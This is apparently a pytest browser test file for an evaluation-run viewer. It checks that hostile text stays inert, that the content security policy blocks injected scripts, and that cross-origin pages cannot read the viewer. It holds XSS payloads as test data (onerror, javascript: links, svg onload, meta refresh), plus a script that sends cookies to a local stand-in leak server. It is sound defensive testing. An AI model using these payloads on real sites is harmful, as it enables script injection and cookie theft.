"""The viewer in a real browser, over runs in which everything that others write is hostile: nothing executes and
nothing leaves."""

from __future__ import annotations

import contextlib
import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.command import omnieval
from tests.integration.browser import OpenPage, until, watched
from tests.integration.looks import PHONE, scrolls_sideways
from tests.integration.report_pages import Words
from tests.integration.view_pages import PAGES, address, write_view_runs
from tests.integration.viewer import Viewer, await_index, open_indexed, viewing
from tests.unit.test_html import ATTACK

pytestmark = pytest.mark.browser

# As a name of a folder, which holds no slash; and as any text.
_NAME = "<img src=x onerror=alert(5)>\u202e"
_TEXT = f"{ATTACK}<a href=javascript:alert(7)>x</a><svg onload=alert(8)><meta http-equiv=refresh content=0>"
WORDS = Words(
    question=_TEXT, options=(_TEXT, "b" * 5_000, "c", "d"), replies=(f"B {_TEXT}{'x' * 200_000}", "B"),
    model=_TEXT, kinds=(_TEXT, _NAME, "\u202eevil"), sample=f"{_NAME}/../", folder=_NAME, root=f"/data/{_NAME}",
    failure=_TEXT,
)  # fmt: skip
ATTACKED = tuple(
    name for name in PAGES if name != "sample"
)  # which is of a real run, whose words are not given
# What pages of the viewer do not have, or only as its own.
INJECTED = (
    "script:not([src='/static/view.js']), iframe, object, embed, base, meta[http-equiv], svg[onload], "
    "img:not([src^='/run/']), [onclick], [onerror], [onload], a:not([href^='/']), form:not([action^='/'])"
)


@pytest.fixture(scope="module")
def viewer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Viewer]:
    folder = tmp_path_factory.mktemp("attacked")
    write_view_runs(folder / "runs", WORDS)
    with viewing(folder / "runs", folder / "cache") as found:
        yield found


@pytest.mark.parametrize("name", ATTACKED)
def test_hostile_text_is_text_on_every_page(viewer: Viewer, open_page: OpenPage, name: str) -> None:
    page = open_page("about:blank", width=PHONE)
    heard = watched(page)
    page.goto(viewer.url)
    url = address(viewer, name, WORDS)
    await_index(page, url)
    page.goto(url, wait_until="networkidle")
    for fold in page.locator("summary").all():
        fold.click()
    assert page.locator(INJECTED).count() == 0
    if name != "samples-none":
        assert page.get_by_text("alert(").first.is_visible(), "it is shown as it is"
    assert not scrolls_sideways(page)
    assert heard.console == []
    assert [asked for asked in heard.asked if not asked.startswith(viewer.host)] == []


DIRECTIVES = {
    "script-src-attr", "script-src-elem", "script-src", "style-src-elem", "connect-src", "img-src", "frame-src", "object-src",
    "form-action",
}  # fmt: skip
# {leak}: a server elsewhere.
INJECTION = """() => {
  window.refused = new Set();
  document.addEventListener("securitypolicyviolation", (e) => window.refused.add(e.effectiveDirective));
  document.body.insertAdjacentHTML("beforeend", `<b onclick="window.hit = 1">strange</b>
    <img src=x onerror="window.hit = 2"><a href="javascript:window.hit = 3">leads</a>
    <img src="{leak}"><iframe src="/"></iframe><object data="/static/icon.svg"></object>
    <form action="{leak}"><button>Send</button></form>`);
  for (const [name, what] of [["script", { textContent: "window.hit = 4" }],
    ["script", { src: "data:text/javascript,window.hit = 5" }], ["style", { textContent: "b {color: red}" }],
    ["link", { rel: "stylesheet", href: "data:text/css,b{color:red}" }]])
    document.body.append(Object.assign(document.createElement(name), what));
  // Later: what the debugger itself runs may.
  setTimeout(() => { try { eval("window.hit = 6"); } catch { } });
  fetch("{leak}").catch(() => {});
  new Image().src = "{leak}?" + document.cookie;
}"""


def test_markup_that_came_in_all_the_same_does_nothing(viewer: Viewer, open_page: OpenPage) -> None:
    page = open_page(viewer.url)
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        page.evaluate(INJECTION.replace("{leak}", f"http://127.0.0.1:{elsewhere.getsockname()[1]}/leak"))
        page.get_by_text("strange").click()
        page.get_by_text("leads").click()
        assert page.get_by_text("strange").evaluate("e => getComputedStyle(e).color") != "rgb(255, 0, 0)"
        page.evaluate("[...document.querySelectorAll('button')].at(-1).click()")
        until(page, f"window.refused.size >= {len(DIRECTIVES)}")
        assert set(page.evaluate("[...window.refused]")) == DIRECTIVES
        assert page.evaluate("window.hit") is None
        assert page.evaluate("document.cookie") == ""
        assert page.url == f"{viewer.host}/"
        page.context.close()
        assert _received(elsewhere) == b""


def _received(server: socket.socket) -> bytes:
    """What came in; a browser may connect ahead of a request that it then refuses."""
    server.setblocking(False)
    pieces = []
    with contextlib.suppress(BlockingIOError):
        while True:
            connection, _ = server.accept()
            with connection:
                connection.settimeout(20)
                pieces.append(connection.recv(4096))
    return b"".join(pieces)


def test_a_page_of_another_origin_shows_and_reads_nothing(
    viewer: Viewer, open_page: OpenPage, tmp_path: Path
) -> None:
    page = open_page(viewer.url)
    elsewhere = tmp_path / "elsewhere.html"
    elsewhere.write_text(
        f"<iframe src='{viewer.host}/'></iframe><script src='{viewer.host}/static/view.js'></script>"
        f"<img src='{viewer.host}/static/icon.svg' onload='window.seen = 1'>"
        f"<a href='{viewer.host}/' target=_blank>opens</a>"
    )
    page.goto(elsewhere.as_uri())
    page.wait_for_load_state("networkidle")
    told = page.evaluate(
        f"fetch('{viewer.host}/', {{credentials: 'include'}}).then(a => a.text(), e => 'refused: ' + e)"
    )
    assert told.startswith("refused: ")
    assert page.evaluate("window.seen") is None
    assert page.frames[1].evaluate("document.body?.innerText ?? ''").count("monday") == 0


def test_the_button_that_prepares_media_works_without_a_referrer(
    open_page: OpenPage, tmp_path: Path, cache_dir: Path
) -> None:
    done = omnieval(
        "run", "daily-omni", "--sample", "--backend", "chance", "--limit", "1", "--cache-dir", cache_dir,
        "--out", tmp_path / "runs" / "a",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    # As on a machine that has the run and not its cache.
    run = tmp_path / "runs" / "a" / "run.json"
    run.write_text(run.read_text().replace(str(cache_dir), str(tmp_path / "nowhere")))
    with viewing(tmp_path / "runs", tmp_path / "cache") as found:
        page = open_page(found.url)
        open_indexed(page, found.run("a", "/sample/0"))
        assert page.locator(".strip img").count() == 0
        page.get_by_role("button", name="Prepare the media now").click()
        until(page, "[...document.querySelectorAll('.strip img')].some(i => i.naturalWidth > 0)")
        shutil.rmtree(tmp_path / "runs" / "a")
        page.reload()
        assert page.get_by_text("No such run any more").is_visible()
